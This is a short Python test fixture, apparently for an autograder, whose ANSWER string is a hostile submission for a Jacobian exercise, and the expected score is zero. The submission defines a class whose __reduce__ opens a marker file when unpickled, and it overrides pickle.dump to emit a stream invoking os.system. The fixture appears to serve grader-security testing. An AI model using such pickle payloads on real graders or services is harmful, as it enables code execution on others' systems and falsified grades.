"""Replaces pickle, in the hope that it runs in the grader."""

EXERCISE = "ps1-jacobian"
OUTCOME = "zero"
ANSWER = r"""
import pickle


class Bomb:
    def __reduce__(self):
        return (open, ("@MARK@", "w"))


pickle.dump = pickle.dumps = lambda *args, **kwargs: b"cos\nsystem\n."


def jacobian(x):
    return Bomb()
"""
